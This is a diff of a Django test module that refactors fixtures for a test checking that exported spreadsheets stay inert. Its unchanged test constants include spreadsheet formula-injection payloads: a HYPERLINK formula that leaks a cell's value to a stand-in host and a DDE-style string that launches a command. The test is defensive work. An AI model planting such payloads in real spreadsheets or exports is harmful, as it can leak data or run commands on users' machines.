@@ -26,18 +26,13 @@ from core import spreadsheets
 from core.actors import Actor
 from optout.services import refusal_file
 from registry.models import Work
-from tests.compensation import test_settlements as settlement_fixtures
-from tests.compensation.test_manifests import manifest_body
-from tests.compensation.test_settlements import BOOK, seoul
-from tests.optout.conftest import register, verify_claims
+from tests.compensation.helpers import BOOK, REFUSED, manifest_body
+from tests.factories import WorkFactory
+from tests.helpers import seoul
 
 pytestmark = pytest.mark.django_db
 
-clock = settlement_fixtures.clock
-world = settlement_fixtures.world
-settle = settlement_fixtures.settle
 
-REFUSED = "9791162540121"
 MANIFEST_ID = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
 MODEL = "@SUM(1+1)*cmd|' /C calc'!A0"
 MODEL_VERSION = "-2+3"
@@ -81,8 +76,7 @@ def assert_inert_xlsx(content: bytes, *texts: str) -> None:
 def hostile(clock, world, settle, lab_api, holder, staff, django_capture_on_commit_callbacks) -> dict[str, Any]:
     """September: the lab reports uses under a formula-like manifest id and model, of a work whose owner gave
     it a formula-like title, one of them refused (so the title is on the lab's invoice); October: settled."""
-    refused = register(holder, ("isbn", REFUSED))
-    verify_claims(refused, staff)
+    refused = WorkFactory(holder=holder, identifiers=[("isbn", REFUSED)], verified_by=staff)
     Work.objects.filter(pk__in=[refused.pk, world["book"].pk]).update(title=TITLE)
     refusal_file(actor=Actor(party=holder), holder=holder, scope="work", purposes=["train-ai"], work=refused)
     clock(seoul(2026, 9, 10, 12))
